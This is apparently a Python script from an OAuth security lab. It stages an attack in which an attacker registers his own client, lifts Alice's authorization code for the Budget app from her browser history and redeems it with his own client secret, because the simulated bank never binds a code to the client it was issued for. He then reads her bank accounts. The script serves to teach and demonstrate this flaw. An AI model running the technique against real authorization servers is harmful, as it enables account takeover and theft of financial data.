"""A client of the attacker's redeems a code that was made out to Budget."""

from labs.stage import Stage, Stuck
from labs.steps import step


@step("attacker")
def registers_a_client(stage: Stage) -> None:
    """Register a client, as anybody may, and keep its secret."""
    own = {"token_endpoint_auth_method": "client_secret_post"}
    registered = stage.attacker.register("Recipes", f"{stage.here.attacker}/collect", **own)
    stage.kept["client"] = {name: registered[name] for name in ("client_id", "client_secret")}


@step("Alice", by_hand="{budget}/connect")
def alice_connects(stage: Stage) -> None:
    """Connect Budget to the bank: sign in as alice, and allow; the page after that never loads."""
    # A code works once: had Budget's callback loaded, Budget would have used it up.
    stage.alice.holds_back = stage.callback("budget")
    stage.alice.go(f"{stage.here.budget}/connect").agree()


@step("attacker", asks="the URL of the callback with ?code= in it: the browser shows it", on_wire="/callback")
def redeems_it_as_its_own_client(stage: Stage) -> None:
    """Read the URL in the browser's history, and redeem its code with the own client's secret."""
    response = stage.leak("history", stage.given or stage.alice.handed_over)
    # His own client proves who it is, and so passes the check that stops everybody else.
    if "client" not in stage.kept:
        raise Stuck("the attacker has no client yet")
    redirect_uri = stage.callback("budget")  # the one of Alice's request: it is no secret
    stage.kept["token"] = stage.attacker.redeem(
        response.get("code", ""), redirect_uri=redirect_uri, **stage.kept["client"]
    )


@step("attacker")
def reads_the_accounts(stage: Stage) -> None:
    """Ask the bank for Alice's accounts with what that bought."""
    stage.attacker.bank("GET", "/accounts", stage.kept.get("token", ""))
